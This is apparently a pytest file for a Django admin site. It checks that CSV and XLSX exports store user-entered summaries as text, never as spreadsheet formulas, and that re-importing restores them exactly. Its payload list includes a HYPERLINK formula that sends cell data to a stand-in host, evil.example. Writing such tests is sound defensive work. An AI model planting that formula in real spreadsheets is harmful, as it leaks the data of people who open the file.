"""An exported cell never opens as a formula: whatever an editor typed at the start of a
summary (`=`, `==`, `+`, `-`, `@`, a tab, a carriage return), the admin's CSV and XLSX
exports hold it as text, and importing the file back restores the text exactly."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.urls import reverse

from comparisons.models import Support
from comparisons.resources import FORMATS, SupportResource
from tests.factories import FeatureFactory, FrameworkFactory, SupportFactory, UserFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=1+1",
    '==HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def cells():
    flask = FrameworkFactory(slug="flask")
    for number, payload in enumerate(PAYLOADS):
        SupportFactory(
            framework=flask, feature=FeatureFactory(slug=f"f{number}"), summary=payload,
            packages="Flask-CORS", since_version="1.0", notes="-- a note",
        )  # fmt: skip


@pytest.fixture
def editor_client(client):
    editor = UserFactory(username="ed", is_staff=True)
    editor.groups.add(Group.objects.get(name="Editors"))
    client.force_login(editor)
    return client


def export(editor_client, extension):
    """The file an editor downloads from the cells list's Export page."""
    index = next(i for i, fmt in enumerate(FORMATS) if fmt().get_extension() == extension)
    fields = {f"supportresource_{name}": "on" for name in SupportResource().get_export_order()}
    form = {"format": str(index), "resource": "0", **fields}
    response = editor_client.post(reverse("admin:comparisons_support_export"), form)
    assert response.status_code == 200, response.content[:500]
    return response.content


def test_csv_export_holds_no_cell_that_starts_a_formula(editor_client, cells):
    rows = list(csv.DictReader(io.StringIO(export(editor_client, "csv").decode("utf-8-sig"))))
    summaries = sorted(row["summary"] for row in rows)
    assert len(summaries) == len(PAYLOADS)
    for summary in summaries:
        assert not summary.startswith(FORMULA_STARTS), repr(summary)
    assert sorted(summary[1:] for summary in summaries) == sorted(PAYLOADS)


def test_xlsx_export_holds_text_cells_never_formulas(editor_client, cells):
    sheet = openpyxl.load_workbook(io.BytesIO(export(editor_client, "xlsx"))).active
    header = [cell.value for cell in sheet[1]]
    column = header.index("summary")
    summaries = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert len(summaries) == len(PAYLOADS)
    for cell in summaries:
        assert cell.data_type == "s", (cell.value, cell.data_type)  # "f" would be a formula
        assert not cell.value.startswith(FORMULA_STARTS), repr(cell.value)


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_an_exported_file_imports_back_to_the_same_text(editor_client, cells, extension):
    data = export(editor_client, extension)
    fmt = next(fmt() for fmt in FORMATS if fmt().get_extension() == extension)
    Support.objects.update(summary="changed since the export")
    dataset = fmt.create_dataset(data if fmt.is_binary() else data.decode("utf-8-sig"))
    result = SupportResource().import_data(dataset, raise_errors=True)
    assert not result.has_validation_errors()
    expected = PAYLOADS
    if extension == "xlsx":  # XML keeps no carriage return: the cell comes back with "\n"
        expected = [payload.replace("\r", "\n") for payload in PAYLOADS]
    assert sorted(Support.objects.values_list("summary", flat=True)) == sorted(expected)


def test_numbers_and_plain_text_are_exported_as_they_are(db):
    from comparisons.spreadsheets import escape_formula

    for value in ("-5", "+1.5", "-2,000", "Flask-CORS", "", None, 3, -4.5):
        assert escape_formula(value) == value
